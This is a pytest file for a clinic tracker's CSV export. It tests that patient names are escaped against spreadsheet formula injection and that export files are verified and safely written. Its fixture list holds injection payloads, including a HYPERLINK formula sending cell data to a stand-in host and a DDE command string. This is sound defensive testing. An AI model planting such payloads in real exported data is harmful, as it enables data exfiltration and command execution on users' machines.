"""CSV exports a spreadsheet cannot turn into formulas, checked row by row before they are
put in place, and never left half-written."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.helpers import assert_cli_refusal
from tests.helpers import run_tracker_here as run_tracker
from tests.storage_extras.helpers import add_plain_patient
from tracker.storage import export as export_module
from tracker.storage.csv_cells import original_text, spreadsheet_safe
from tracker.storage.database import open_database
from tracker.storage.errors import StorageError
from tracker.storage.export import export_csv

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "'=already quoted",
    "Nul\x00and Esc\x1b[31m",
    "Back\\slash\x07bell",
]


def read_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("a\x00b\x1bc\x7f", "'a\\x00b\\x1bc\\x7f"),
        ("C:\\dir\x1b", "'C:\\\\dir\\x1b"),
        ("plain text", "plain text"),
        ("line\nbreak, \"quoted\"", "line\nbreak, \"quoted\""),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_cells_are_made_safe_and_read_back_exactly(text, cell):
    assert spreadsheet_safe(text) == cell
    assert original_text(cell) == text


@pytest.mark.parametrize("value", [None, 0, -5, -2.5, 3.25])
def test_numbers_and_empty_values_are_left_alone(value):
    assert spreadsheet_safe(value) is value


@settings(deadline=None)
@given(st.text())
def test_any_text_reads_back_exactly(text):
    cell = spreadsheet_safe(text)
    assert original_text(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not any(ord(char) < 32 and char not in "\t\n\r" for char in cell)


def test_an_export_of_hostile_names_holds_no_formula(database, tmp_path):
    with open_database(database) as store:
        for number, name in enumerate(HOSTILE_NAMES):
            add_plain_patient(store, f"EVIL-{number}", name)
    written = export_csv(database, tmp_path / "out")
    header, *rows = read_rows(written["patients"])
    names = [row[header.index("name")] for row in rows]
    for cell in names:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert "\x00" not in cell and "\x1b" not in cell
    assert [original_text(cell) for cell in names[3:]] == HOSTILE_NAMES
    # The audit log's JSON of the same names is text that starts with "{": left as it is.
    audit = read_rows(written["audit_log"])
    assert all(row[audit[0].index("after_json")].startswith("{") for row in audit[1:4])


def test_a_file_that_reads_back_short_is_not_put_in_place(database, tmp_path, monkeypatch):
    real_count = export_module._rows_in_file
    monkeypatch.setattr(
        export_module, "_rows_in_file",
        lambda path: real_count(path) - 1 if path.name == "patients.csv" else real_count(path),
    )
    with pytest.raises(StorageError, match=r"patients\.csv read back with 2 rows where patients has 3"):
        export_csv(database, tmp_path / "out")
    # Neither the folder nor its temporary twin is left.
    assert sorted(path.name for path in tmp_path.iterdir()) == ["clinic"]


def test_into_an_existing_folder_only_the_csv_files_are_replaced(database, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "patients.csv").write_text("an earlier export\n")
    (out / "notes.txt").write_text("the clinic's own file")
    export_csv(database, out, overwrite=True)
    assert (out / "notes.txt").read_text() == "the clinic's own file"
    assert read_rows(out / "patients.csv")[1][1] == "MRN001"
    assert not [path.name for path in out.iterdir() if path.name.startswith(".")]


def test_an_export_never_replaces_a_database_or_a_special_file(database, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "patients.csv").symlink_to(database)
    result = run_tracker("export", "--db", database, "-o", out, "--force")
    assert_cli_refusal(result, "is the database being read")
    (out / "patients.csv").unlink()
    (tmp_path / "elsewhere.txt").write_text("a file the link points to")
    (out / "patients.csv").symlink_to(tmp_path / "elsewhere.txt")
    result = run_tracker("export", "--db", database, "-o", out, "--force")
    assert_cli_refusal(result, "not a regular file")
    assert (out / "patients.csv").is_symlink()
    assert (tmp_path / "elsewhere.txt").read_text() == "a file the link points to"


def test_the_export_says_how_many_rows_it_checked_and_is_recorded(database, tmp_path):
    result = run_tracker("export", "--db", database, "-o", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    assert "rows, each file checked" in result.stdout
    with open_database(database) as store:
        [(detail,)] = store.execute(
            "SELECT after_json FROM audit_log WHERE table_name = 'actions' AND action = 'export'"
        ).fetchall()
    assert str(tmp_path / "out") in detail
